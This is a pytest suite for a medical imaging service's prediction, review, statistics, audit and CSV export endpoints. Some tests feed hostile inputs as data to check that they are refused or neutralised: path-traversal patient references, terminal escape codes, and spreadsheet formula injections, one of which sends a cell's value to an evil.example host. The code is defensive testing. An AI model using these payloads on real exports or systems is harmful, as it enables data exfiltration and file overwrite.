"""Predictions (idempotency, filters, stable pages), reviews, statistics, export, audit."""

import asyncio
import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import asyncpg
import pytest

from ml.datasets import FOLDER_LABELS, read_class_folders
from tests.support.sql import fetch_async
from tests.support.tokens import bearer, mint_token


async def test_a_prediction_is_stored_with_the_image_patient(data):
    patient = await data.patient("H-1")
    image = await data.image(1, patient["id"])
    response = await data.prediction(image["id"])
    assert response.status_code == 201, response.text
    body = response.json()
    assert body["patient_id"] == patient["id"] and body["requested_by"] == data.clinician_id
    assert body["reviewed"] is False
    got = await data.client.get(f"/predictions/{body['id']}", headers=bearer(mint_token("viewer")))
    assert got.json() == body


async def test_the_same_idempotency_key_gives_the_first_prediction_even_concurrently(data, data_db):
    image = await data.image(2)
    first = await data.prediction(image["id"], key="upload-42")
    again = await data.prediction(image["id"], label="benign", key="upload-42")
    assert (first.status_code, again.status_code) == (201, 200)
    assert again.json() == first.json()  # the first one, not the new content
    other_caller = await data.prediction(
        image["id"], key="upload-42", headers=bearer(mint_token("clinician", str(uuid.uuid4())))
    )
    assert other_caller.status_code == 201 and other_caller.json()["id"] != first.json()["id"]

    burst = await asyncio.gather(*(data.prediction(image["id"], key="burst") for _ in range(10)))
    assert len({r.json()["id"] for r in burst}) == 1
    rows = await fetch_async(
        data_db, "SELECT count(*) AS n FROM predictions WHERE idempotency_key = 'burst'"
    )
    assert rows[0]["n"] == 1


async def test_prediction_bad_input(data):
    image = await data.image(3)
    assert (await data.prediction(str(uuid.uuid4()))).status_code == 404
    bad_label = await data.prediction(image["id"], label="cancer")
    assert bad_label.status_code == 422
    assert (
        await data.prediction(image["id"], headers=bearer(mint_token("viewer")))
    ).status_code == 403
    assert (
        await data.client.get(f"/predictions/{uuid.uuid4()}", headers=data.clinician)
    ).status_code == 404
    listing = data.client.get
    assert (await listing("/predictions?limit=1000", headers=data.clinician)).status_code == 422
    backwards = await listing(
        "/predictions",
        headers=data.clinician,
        params={"created_from": "2026-02-01T00:00:00Z", "created_to": "2026-01-01T00:00:00Z"},
    )
    assert backwards.status_code == 422 and "created_from" in backwards.json()["error"]["message"]
    assert (await listing("/predictions?cursor=garbage", headers=data.clinician)).status_code == 422


async def test_filters(data):
    patient = await data.patient("H-F")
    image_a = await data.image(4, patient["id"])
    image_b = await data.image(5)
    a = (await data.prediction(image_a["id"], "malignant", "v1")).json()
    b = (await data.prediction(image_b["id"], "benign", "v2")).json()
    await data.client.post(
        f"/predictions/{b['id']}/reviews", json={"verdict": "agree"}, headers=data.clinician
    )

    async def ids(**params):
        response = await data.client.get("/predictions", params=params, headers=data.clinician)
        return [item["id"] for item in response.json()["items"]]

    assert await ids() == [b["id"], a["id"]]  # newest first
    assert await ids(label="benign") == [b["id"]]
    assert await ids(model_version="v1") == [a["id"]]
    assert await ids(patient_id=patient["id"]) == [a["id"]]
    assert await ids(reviewed="true") == [b["id"]]
    assert await ids(reviewed="false") == [a["id"]]
    future = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    assert await ids(created_from=future) == []
    assert await ids(created_to=future) == [b["id"], a["id"]]


async def test_pages_stay_stable_while_new_predictions_arrive(data):
    image = await data.image(6)
    made = [(await data.prediction(image["id"])).json()["id"] for _ in range(23)]
    seen: list[str] = []
    cursor = None
    while True:
        params = {"limit": 5, **({"cursor": cursor} if cursor else {})}
        page = (await data.client.get("/predictions", params=params, headers=data.clinician)).json()
        seen += [item["id"] for item in page["items"]]
        await data.prediction(image["id"])  # arrives between pages: on no later page
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert seen == list(reversed(made))


async def test_reviews_keep_one_current_verdict_per_reviewer_and_the_history(data):
    image = await data.image(7)
    prediction = (await data.prediction(image["id"], "malignant")).json()
    url = f"/predictions/{prediction['id']}/reviews"
    agree = await data.client.post(url, json={"verdict": "agree"}, headers=data.clinician)
    assert agree.status_code == 201
    change = await data.client.post(
        url,
        json={"verdict": "disagree", "corrected_label": "benign", "comment": "stroma"},
        headers=data.clinician,
    )
    assert change.status_code == 201
    other = await data.client.post(
        url, json={"verdict": "agree"}, headers=bearer(mint_token("clinician", str(uuid.uuid4())))
    )
    assert other.status_code == 201
    history = (await data.client.get(url, headers=bearer(mint_token("viewer")))).json()
    assert [(r["verdict"], r["is_current"]) for r in history] == [
        ("agree", False),
        ("disagree", True),
        ("agree", True),
    ]
    assert (
        await data.client.get(f"/predictions/{prediction['id']}", headers=data.clinician)
    ).json()["reviewed"] is True


async def test_review_bad_input(data):
    image = await data.image(8)
    prediction = (await data.prediction(image["id"], "malignant")).json()
    url = f"/predictions/{prediction['id']}/reviews"
    cases = [
        ({"verdict": "disagree", "corrected_label": "cancer"}, 422, "one of benign, malignant"),
        ({"verdict": "disagree", "corrected_label": "malignant"}, 422, "another label"),
        ({"verdict": "disagree"}, 422, ""),
        ({"verdict": "agree", "corrected_label": "benign"}, 422, ""),
        ({"verdict": "maybe"}, 422, ""),
    ]
    for body, status, fragment in cases:
        response = await data.client.post(url, json=body, headers=data.clinician)
        assert response.status_code == status, body
        assert fragment in response.json()["error"]["message"], body
    missing = await data.client.post(
        f"/predictions/{uuid.uuid4()}/reviews", json={"verdict": "agree"}, headers=data.clinician
    )
    assert missing.status_code == 404
    viewer = await data.client.post(
        url, json={"verdict": "agree"}, headers=bearer(mint_token("viewer"))
    )
    assert viewer.status_code == 403


async def test_statistics_match_hand_counted_fixtures(data):
    images = [await data.image(20 + i) for i in range(3)]
    plan = [
        ("malignant", "v1", 10.0),
        ("malignant", "v1", 20.0),
        ("benign", "v1", 30.0),
        ("benign", "v2", 40.0),
        ("malignant", "v2", 50.0),
    ]
    made = []
    for index, (label, version, latency) in enumerate(plan):
        made.append(
            (await data.prediction(images[index % 3]["id"], label, version, latency)).json()
        )
    reviews = [("agree", None), ("agree", None), ("disagree", "malignant")]
    for prediction, (verdict, corrected) in zip(made[:2] + made[2:3], reviews, strict=True):
        body = {"verdict": verdict, **({"corrected_label": corrected} if corrected else {})}
        await data.client.post(
            f"/predictions/{prediction['id']}/reviews", json=body, headers=data.clinician
        )
    stats = (await data.client.get("/stats", headers=bearer(mint_token("viewer")))).json()
    today = datetime.now(UTC).date().isoformat()
    assert stats["predictions"] == 5
    assert stats["mean_latency_ms"] == pytest.approx(30.0)
    assert stats["by_label"] == {"malignant": 3, "benign": 2}
    assert stats["by_model_version"] == {"v1": 3, "v2": 2}
    # Linear interpolation between the 4th and 5th of 10..50 ms: 40 + 0.8 * 10, read from
    # latency buckets eight to a doubling: within half a bucket (4.4 %).
    assert stats["p95_latency_ms"] == pytest.approx(48.0, rel=0.045)
    assert stats["by_day"] == [
        {
            "day": today,
            "count": 5,
            "by_label": {"benign": 2, "malignant": 3},
            "by_assessment": {"assessable": 5},
        }
    ]
    assert stats["reviews"] == {
        "current": 3,
        "agree": 2,
        "reviewed_predictions": 3,
        "agreement_rate": pytest.approx(2 / 3, abs=1e-4),
    }
    empty = (
        await data.client.get(
            "/stats",
            headers=bearer(mint_token("viewer")),
            params={"created_from": "2000-01-01T00:00:00Z", "created_to": "2000-01-02T00:00:00Z"},
        )
    ).json()
    assert empty["predictions"] == 0 and empty["reviews"]["agreement_rate"] is None


async def test_reviewed_labels_export_for_retraining(data):
    patient = await data.patient("H_77")  # an underscore would split the patient in ml/
    agreed_image = await data.image(30, patient["id"])
    corrected_image = await data.image(31)
    agreed = (await data.prediction(agreed_image["id"], "malignant")).json()
    corrected = (await data.prediction(corrected_image["id"], "malignant")).json()
    await data.prediction((await data.image(32))["id"])  # not reviewed: not exported
    await data.client.post(
        f"/predictions/{agreed['id']}/reviews", json={"verdict": "agree"}, headers=data.clinician
    )
    await data.client.post(
        f"/predictions/{corrected['id']}/reviews",
        json={"verdict": "disagree", "corrected_label": "benign"},
        headers=data.clinician,
    )
    assert (await data.client.get("/exports/labels", headers=data.clinician)).status_code == 403
    response = await data.client.get("/exports/labels", headers=bearer(mint_token("admin")))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [(r["image_id"], r["label"]) for r in rows] == [
        (agreed_image["id"], "malignant"),
        (corrected_image["id"], "benign"),
    ]
    assert rows[0]["patient"] == "H_77" and rows[0]["reviewer"] == data.clinician_id
    for row in rows:
        folder, name = row["path"].split("/")
        assert folder in FOLDER_LABELS  # what ml.datasets' `folders` reader takes
        assert name.split("_", 1)[1].startswith(row["image_id"])
    assert rows[0]["path"].split("/")[1].split("_")[0] == "H-77"


async def test_the_export_names_one_file_in_its_label_folder_whatever_the_reference(
    data, data_db, tmp_path
):
    # References an older version let through, or that reached the table another way.
    hostile = [
        "../../../etc/cron.d/retrain",
        "H-1/../../../../tmp/x",
        "..\\..\\windows\\x",
        ".hidden",
        "..",
        "H-2\n../x\r\x1b[2J\t",
    ]
    ordinary = ["H-2026.001", "H_78", "X-9"]
    expected_paths = {}
    for seed, reference in enumerate(hostile + ordinary, start=50):
        if reference in hostile:
            rows = await fetch_async(
                data_db,
                "INSERT INTO patients (id, external_ref) VALUES (gen_random_uuid(), $1) "
                "RETURNING id",
                reference,
            )
            patient_id = str(rows[0]["id"])
        else:
            patient_id = (await data.patient(reference))["id"]
        image = await data.image(seed, patient_id)
        prediction = (await data.prediction(image["id"], "benign")).json()
        review = await data.client.post(
            f"/predictions/{prediction['id']}/reviews",
            json={"verdict": "agree"},
            headers=data.clinician,
        )
        assert review.status_code == 201, review.text
        if reference in ordinary:  # as exported before references were checked
            expected_paths[image["id"]] = f"benign/{reference.replace('_', '-')}_{image['id']}.png"
    response = await data.client.get("/exports/labels", headers=bearer(mint_token("admin")))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [r["patient"] for r in rows] == hostile + ordinary  # the stored reference, as is
    root = tmp_path / "export"
    for row in rows:
        path = row["path"]
        assert ".." not in path and "\\" not in path, path
        assert path.isprintable(), path
        folder, name = path.split("/")  # the layout's own separator, and no other
        assert folder == "benign", path
        patient, rest = name.split("_", 1)
        assert patient and not patient.startswith(".") and rest == f"{row['image_id']}.png", path
        if row["image_id"] in expected_paths:
            assert path == expected_paths[row["image_id"]]
        file = root / path
        assert file.resolve().is_relative_to(root.resolve()), path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(b"")
    # Written out under those names, the training side reads one patient per reference.
    samples = read_class_folders(root)
    assert len(samples) == len(rows) and {s.label for s in samples} == {0}
    groups = {s.path.relative_to(root).as_posix(): s.group for s in samples}
    assert [groups[r["path"]] for r in rows][len(hostile) :] == ["H-2026.001", "H-78", "X-9"]
    assert len({groups[r["path"]] for r in rows}) == len(rows)


async def test_the_same_bytes_for_two_patients_count_for_each_in_history_stats_and_export(
    data, data_db
):
    first, second = await data.patient("H-DUP-A"), await data.patient("H-DUP-B")
    uploads = [await data.image(60, first["id"]), await data.image(60, second["id"])]
    predictions = [(await data.prediction(u["id"], "malignant")).json() for u in uploads]
    assert [p["patient_id"] for p in predictions] == [first["id"], second["id"]]
    for prediction in predictions:
        review = await data.client.post(
            f"/predictions/{prediction['id']}/reviews",
            json={"verdict": "agree"},
            headers=data.clinician,
        )
        assert review.status_code == 201, review.text
    for patient, prediction in zip((first, second), predictions, strict=True):
        history = await data.client.get(
            "/predictions", params={"patient_id": patient["id"]}, headers=data.clinician
        )
        assert [p["id"] for p in history.json()["items"]] == [prediction["id"]]
    stats = (await data.client.get("/stats", headers=data.clinician)).json()
    assert stats["predictions"] == 2 and stats["by_label"] == {"malignant": 2}
    assert stats["reviews"]["reviewed_predictions"] == 2
    export = await data.client.get("/exports/labels", headers=bearer(mint_token("admin")))
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [r["patient"] for r in rows] == ["H-DUP-A", "H-DUP-B"]
    assert [r["image_id"] for r in rows] == [u["id"] for u in uploads]
    assert len({r["path"] for r in rows}) == 2 and len({r["image_sha256"] for r in rows}) == 1


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


async def test_no_exported_cell_can_start_a_spreadsheet_formula(data, data_db):
    # Creating such a reference is refused (the reference pattern); older rows may hold one.
    for reference in FORMULAS:
        refused = await data.client.post(
            "/patients", json={"external_ref": reference}, headers=data.clinician
        )
        assert refused.status_code == 422, (reference, refused.text)
    for seed, reference in enumerate(FORMULAS, start=70):
        rows = await fetch_async(
            data_db,
            "INSERT INTO patients (id, external_ref) VALUES (gen_random_uuid(), $1) RETURNING id",
            reference,
        )
        image = await data.image(seed, str(rows[0]["id"]))
        prediction = (await data.prediction(image["id"], "benign", version="-1")).json()
        await data.client.post(
            f"/predictions/{prediction['id']}/reviews",
            json={"verdict": "agree"},
            headers=data.clinician,
        )
    export = await data.client.get("/exports/labels", headers=bearer(mint_token("admin")))
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text, newline="")))[1:]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    patient_column = [row[4] for row in rows]
    assert patient_column == [f"'{reference}" for reference in FORMULAS]  # kept, made text
    assert {row[8] for row in rows} == {"'-1"}


async def test_every_write_produced_an_audit_event_and_the_trail_is_append_only(data, data_db):
    patient = await data.patient("H-A")
    await data.client.patch(
        f"/patients/{patient['id']}",
        json={"sex": "male"},
        headers={**data.clinician, "X-Request-ID": "audit-check-1"},
    )
    image = await data.image(40, patient["id"])
    prediction = (await data.prediction(image["id"])).json()
    await data.client.post(
        f"/predictions/{prediction['id']}/reviews",
        json={"verdict": "agree"},
        headers=data.clinician,
    )
    await data.client.get("/exports/labels", headers=bearer(mint_token("admin")))
    events = (await data.client.get("/audit", headers=bearer(mint_token("admin")))).json()
    assert [e["action"] for e in reversed(events)] == [
        "patient.created",
        "patient.updated",
        "image.stored",
        "prediction.stored",
        "review.created",
        "labels.exported",
    ]
    assert all(e["request_id"] for e in events)
    updated = next(e for e in events if e["action"] == "patient.updated")
    assert updated["request_id"] == "audit-check-1" and updated["actor"] == data.clinician_id
    assert (await data.client.get("/audit", headers=data.clinician)).status_code == 403
    for statement in ("UPDATE audit_events SET action = 'x'", "DELETE FROM audit_events"):
        with pytest.raises(asyncpg.RaiseError, match="append-only"):
            await fetch_async(data_db, statement)


async def test_the_heatmap_focus_is_stored_with_the_prediction(data):
    image = await data.image(31)
    focus = {
        "region": "upper left",
        "peak_region": "centre",
        "hot_area_fraction": 0.12,
        "spread": "focal",
        "areas": 2,
    }
    stored = await data.prediction(image["id"], heatmap_focus=focus)
    assert stored.status_code == 201, stored.text
    got = await data.client.get(f"/predictions/{stored.json()['id']}", headers=data.clinician)
    assert got.json()["heatmap_focus"] == focus
    # A summary from an inference service that did not count areas yet: one area.
    older = {key: value for key, value in focus.items() if key != "areas"}
    stored = await data.prediction(image["id"], heatmap_focus=older)
    assert stored.json()["heatmap_focus"] == {**older, "areas": 1}
    for bad in ({**focus, "spread": "everywhere"}, {**focus, "hot_area_fraction": 2}):
        refused = await data.prediction(image["id"], heatmap_focus=bad)
        assert refused.status_code == 422, bad


async def test_an_odd_label_or_a_heatmap_that_is_not_a_stored_image_is_refused_and_nothing_stored(
    data, data_db
):
    patient, other_patient = await data.patient("H-HM1"), await data.patient("H-HM2")
    image = await data.image(40, patient["id"])
    other_patients_image = await data.image(41, other_patient["id"])
    valid = {
        "image_id": image["id"],
        "model_version": "v1",
        "label": "malignant",
        "probability": 0.9,
        "probabilities": {"benign": 0.1, "malignant": 0.9},
        "threshold": 0.5,
        "latency_ms": 1,
        "assessment": "assessable",
        "reasons": [],
        "checks": [],
    }
    cases = [
        ({"label": "cancer"}, 422, "validation_error"),
        ({"label": "Malignant"}, 422, "validation_error"),
        ({"label": '=HYPERLINK("http://x")'}, 422, "validation_error"),
        ({"probabilities": {"benign": 0.1, "malignant": 0.9, "other": 0.0}}, 422, None),
        ({"probabilities": {"benign": 0.1}}, 422, None),
        ({"model_version": "../v1"}, 422, None),
        ({"heatmap_ref": "heatmaps/../../etc/passwd"}, 422, "validation_error"),
        ({"heatmap_ref": "https://evil.example/overlay.png"}, 422, "validation_error"),
        ({"heatmap_ref": str(uuid.uuid4())}, 404, "heatmap_not_found"),
        ({"heatmap_ref": other_patients_image["id"]}, 422, "heatmap_patient_mismatch"),
    ]
    for change, status, code in cases:
        response = await data.store_prediction({**valid, **change})
        assert response.status_code == status, (change, response.text)
        if code:
            assert response.json()["error"]["code"] == code, (change, response.text)
    assert (await fetch_async(data_db, "SELECT count(*) AS n FROM predictions"))[0]["n"] == 0
    # The overlay of the same patient is accepted, and read back as that image's id.
    overlay = await data.image(42, patient["id"])
    stored = await data.store_prediction({**valid, "heatmap_ref": overlay["id"]})
    assert stored.status_code == 201, stored.text
    assert stored.json()["heatmap_ref"] == overlay["id"]


async def test_without_the_gateways_public_key_no_prediction_can_be_stored(data_db, tmp_path):
    from tests.support.data import running_data

    async with running_data(
        data_db, tmp_path / "images", gateway_service_public_key=None
    ) as unconfigured:
        image = await unconfigured.image(43)
        refused = await unconfigured.prediction(image["id"])
        assert refused.status_code == 503, refused.text
        assert refused.json()["error"]["code"] == "service_key_not_configured"
    assert (await fetch_async(data_db, "SELECT count(*) AS n FROM predictions"))[0]["n"] == 0
